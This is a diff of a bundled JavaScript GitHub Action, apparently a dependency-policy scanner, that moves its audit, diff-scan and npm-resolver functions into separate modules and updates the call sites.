- * whole inventory, reconciled and judged at once, gives (tested over every fixture): the findings
- * in component order, the same count, the same errors.
- */
-async function audit(source, options) {
-    const filter = relevance_nameFilter(options.policy, src_catalog/* catalog */.U$);
-    const evaluator = (0,evaluate/* createEvaluator */.m$)(options.policy, {
-        catalog: src_catalog/* catalog */.U$,
-        ...(options.now ? { now: options.now } : {}),
-        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
-    });
-    const resolverErrors = [];
-    const resolve = options.resolve;
-    // Findings by where their component sits in the whole inventory: its file, its place there.
-    const judged = [];
-    let count = 0;
-    const judge = async (entries) => {
-        let components = entries.map((e) => e.c);
-        if (resolve)
-            components = await resolveRelevant(resolve, components, resolverErrors, filter);
-        components.forEach((c, k) => {
-            const findings = evaluator.judge(c);
-            if (findings.length > 0)
-                judged.push({ file: entries[k].file, index: entries[k].index, findings });
-        });
-        count += components.length;
-    };
-    // Manifest entries wait for every lockfile; their names are what the lockfiles must remember.
-    // Manifest files are handed over first, so every such name is known before any lockfile entry.
-    const manifests = [];
-    const manifestNames = new Map();
-    const locked = new reconcile/* LockedVersions */.oi(manifestNames);
-    const totals = await (0,engine/* inventoryEach */.U2)(source, { limits: options.limits ?? model_limits/* defaultLimits */.MK, first: reconcile/* isManifestPath */.HS }, async (file, list) => {
-        const now = [];
-        list.forEach((c, index) => {
-            if ((0,reconcile/* isManifestEntry */.SY)(c)) {
-                manifests.push({ file, c, index });
-                const name = (0,names/* normalizeName */.Pc)(c.ecosystem, c.name);
-                manifestNames.set((0,reconcile/* wantedKey */.tY)(c.ecosystem, name), name);
-            }
-            else {
-                locked.note(c);
-                now.push({ file, c, index });
-            }
-        });
-        if (now.length > 0)
-            await judge(now);
-    });
-    // One resolver call for every manifest entry left: their look-ups run concurrently.
-    await judge(manifests.filter((m) => !locked.pins(m.c)));
-    judged.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.index - b.index));
-    return (0,gate_report/* buildReport */.FK)({
-        mode: 'audit',
-        findings: judged.flatMap((j) => j.findings),
-        errors: [...totals.errors, ...resolverErrors],
-        notices: evaluator.notices(),
-        filesScanned: totals.filesScanned,
-        components: count,
-        policySources: options.policy.sources,
-        ...(options.policyName ? { policyName: options.policyName } : {}),
-    });
-}
-/**
- * Diff mode: the findings at head, each `introduced` or `unchanged` against base, plus the base
- * findings that are gone (`removed`). One policy (the base's) judges both sides.
- */
-async function diffScan(base, head, options) {
-    const limits = options.limits ?? model_limits/* defaultLimits */.MK;
-    const filter = relevance_nameFilter(options.policy, src_catalog/* catalog */.U$);
-    const d = await diffInventory(base, head, {
-        limits,
-        nameFilter: filter,
-        ...(options.failOn === 'any' ? { parseEveryFile: true } : {}),
-        ...(options.changed ? { changed: options.changed } : {}),
-        ...(options.renames ? { renames: options.renames } : {}),
-        ...(options.detectors ? { detectors: options.detectors } : {}),
-    });
-    let headComponents = (0,reconcile/* reconcileManifests */.fU)(d.head.components);
-    let baseComponents = (0,reconcile/* reconcileManifests */.fU)(d.baseComponents);
-    if (options.resolve) {
-        headComponents = await resolveRelevant(options.resolve, headComponents, d.head.errors, filter);
-        baseComponents = await resolveRelevant(options.resolve, baseComponents, d.baseErrors, filter);
-    }
-    const evalOptions = {
-        catalog: src_catalog/* catalog */.U$,
-        ...(options.now ? { now: options.now } : {}),
-        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
-    };
-    const atHead = (0,evaluate/* evaluate */._3)(headComponents, options.policy, evalOptions);
-    const atBase = (0,evaluate/* evaluate */._3)(baseComponents, options.policy, evalOptions);
-    return (0,gate_report/* buildReport */.FK)({
-        mode: 'diff',
-        findings: classifyFindings(atBase.findings, atHead.findings, d.renames),
-        errors: d.headErrors,
-        notices: [...(options.notices ?? []), ...atHead.notices],
-        diff: { base: base.description, head: head.description, baseErrors: d.baseErrors },
-        filesScanned: d.head.filesScanned,
-        components: headComponents.length,
-        unchangedNotParsed: d.notParsed,
-        policySources: options.policy.sources,
-        ...(options.policyName ? { policyName: options.policyName } : {}),
-    });
-}
-function inventoryReport(inv) {
-    return {
-        schemaVersion: 1,
-        components: inv.components,
-        errors: inv.errors,
-        summary: { filesScanned: inv.filesScanned, components: inv.components.length },
-    };
-}
-
+// EXTERNAL MODULE: ./src/resolver/index.ts + 4 modules
+var resolver = __nccwpck_require__(70007);
+// EXTERNAL MODULE: ./src/gate/scan.ts
+var scan = __nccwpck_require__(46458);
 // EXTERNAL MODULE: ./src/sources/directory.ts
 var directory = __nccwpck_require__(36253);
 // EXTERNAL MODULE: ./src/sources/git.ts
@@ -98355,6 +98841,8 @@ function resolveMode(mode, refs, inputs) {
     return { mode: 'diff', base, ...(head ? { head } : {}) };
 }
 
+// EXTERNAL MODULE: ./src/policy/evaluate.ts + 2 modules
+var evaluate = __nccwpck_require__(40572);
 // EXTERNAL MODULE: ./src/detectors/component.ts
 var component = __nccwpck_require__(68516);
 ;// CONCATENATED MODULE: ./src/host/layouts/layout.ts
@@ -98498,6 +98986,8 @@ const homebrewKegs = {
     },
 };
 
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var action_semver = __nccwpck_require__(62088);
 ;// CONCATENATED MODULE: ./src/host/layouts/native.ts
 // Vendor installers' own layouts. Claude Code's native installer (claude.ai/install.sh, .ps1, .cmd)
 // keeps each version at `~/.local/share/claude/versions/<version>` (on Windows under
@@ -99774,7 +100264,7 @@ async function readPayload(path) {
 async function run(env = process.env) {
     // The org audit's code is loaded only in that mode.
     if (lib_core.getInput('mode').trim() === 'org-audit')
-        return (await __nccwpck_require__.e(/* import() */ 450).then(__nccwpck_require__.bind(__nccwpck_require__, 30450))).runOrgAudit(env);
+        return (await __nccwpck_require__.e(/* import() */ 675).then(__nccwpck_require__.bind(__nccwpck_require__, 15675))).runOrgAudit(env);
     const closers = [];
     try {
         const workspace = (0,external_node_path_.resolve)(env.GITHUB_WORKSPACE || process.cwd());
@@ -99838,14 +100328,14 @@ async function run(env = process.env) {
         const readGithub = (owner, r, path, ref) => (0,github_files/* readGithubFileWith */.K4)(api(), owner, r, path, ref);
         // --- registry look-ups for unpinned specs --------------------------------------------------
         const registry = lib_core.getInput('registry').trim();
-        if (registry !== '' && normalizeRegistry(registry) === null)
+        if (registry !== '' && (0,resolver/* normalizeRegistry */.l5)(registry) === null)
             throw new Error(`input registry must be an http(s) URL, not "${registry}"`);
         const offlineInput = lib_core.getInput('offline').trim().toLowerCase() || 'false';
         if (offlineInput !== 'true' && offlineInput !== 'false')
             throw new Error(`input offline must be true or false, not "${lib_core.getInput('offline')}"`);
         // The .npmrc comes from the trusted side (the base commit in diff mode): a pull request cannot
         // point look-ups at a registry of its choosing.
-        const resolverFor = async (trusted) => auditResolveHook(createNpmResolver({
+        const resolverFor = async (trusted) => (0,resolver/* auditResolveHook */.xl)((0,resolver/* createNpmResolver */.S_)({
             root,
             offline: offlineInput === 'true',
             env: process.env,
@@ -99901,7 +100391,7 @@ async function run(env = process.env) {
             lib_core.info(`Policy: ${origin} (${digest})`);
             rules = policy.rules;
             saveRunnerAuditState(policy, origin);
-            report = await diffScan(base.scan, head.scan, {
+            report = await (0,scan/* diffScan */.LS)(base.scan, head.scan, {
                 policy,
                 policyName: { source: origin, digest },
                 pathPrefix: prefix,
@@ -99928,7 +100418,7 @@ async function run(env = process.env) {
             lib_core.info(`Policy: ${origin} (${digest})`);
             rules = policy.rules;
             saveRunnerAuditState(policy, origin);
-            report = await audit(head.scan, {
+            report = await (0,scan/* audit */.sb)(head.scan, {
                 policy,
                 policyName: { source: origin, digest },
                 pathPrefix: prefix,
